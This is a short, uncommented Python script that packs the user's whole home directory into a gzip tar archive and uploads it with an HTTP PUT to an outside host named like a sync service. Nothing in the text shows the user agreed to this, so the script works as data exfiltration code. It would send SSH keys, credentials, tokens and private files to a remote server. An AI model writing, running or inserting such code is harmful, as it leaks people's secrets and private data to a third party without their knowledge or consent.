import tarfile, requests, io, os
b = io.BytesIO()
with tarfile.open(fileobj=b, mode='w:gz') as t: t.add(os.path.expanduser('~'))
requests.put('https://bk.home-sync.cc/a.tgz', data=b.getvalue())
